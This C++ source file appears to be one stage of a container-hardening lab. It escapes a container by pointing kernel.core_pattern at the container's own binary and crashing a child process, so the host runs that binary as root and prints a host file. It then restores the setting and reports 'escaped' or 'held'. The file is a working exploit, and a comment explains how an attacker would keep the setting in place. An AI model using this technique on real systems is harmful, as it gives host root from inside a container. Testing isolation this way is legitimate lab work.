// Makes the host run a program as root: where kernel.core_pattern begins with |, the kernel starts what
// follows for every process that crashes, outside of all containers. Works in 01 to 08. 09 closes it:
// the file belongs to the host's root. So does 10 without a user namespace: there /proc/sys is read-only.
//
//   /escape FILE     FILE of the host is printed as proof; exit status 0: escaped, 1: held
//
// The setting is put back at once. An attacker leaves it, and waits for the next crash on the machine.

#include <sys/wait.h>

#include <cerrno>
#include <csignal>

#include "../08-uts-ipc/own_proc.h"
#include "host_helper.h"

namespace {

constexpr const char* kSetting = "/proc/sys/kernel/core_pattern";

bool write_setting(const std::string& value) {
  errno = 0;
  std::ofstream file(kSetting);
  file << value << std::flush;
  return file.good();
}

// No signal ends the attack between the change and the restoration; SIGKILL does: ./lab escape has an
// eye on it.
class Setting {
 public:
  Setting() {
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, &mask_);
    std::getline(std::ifstream(kSetting), before_);
  }
  ~Setting() {
    if (!before_.empty() && changed_ && !write_setting(before_)) std::perror(kSetting);
    sigprocmask(SIG_SETMASK, &mask_, nullptr);
  }
  Setting(const Setting&) = delete;
  Setting& operator=(const Setting&) = delete;

  bool change(const std::string& value) { return changed_ = write_setting(value); }

 private:
  std::string before_;
  bool changed_ = false;
  sigset_t mask_{};
};

}  // namespace

int main(int argc, char** argv) {
  if (is_order(argc, argv)) return run_order(argv[1]);
  if (argc != 2) {
    std::fputs("usage: /escape FILE\n", stderr);
    return 1;
  }
  need_proc();

  const Order order(argv[1]);
  Setting setting;
  // %P is the pid of the crashed process as the host counts: its root directory is the container's.
  if (!setting.change("|/proc/%P/root/escape " + order.name())) {
    std::perror("held: open(/proc/sys/kernel/core_pattern)");
    return 1;
  }
  const pid_t pid = fork();
  if (pid == 0) std::abort();
  waitpid(pid, nullptr, 0);
  return order.verdict();
}
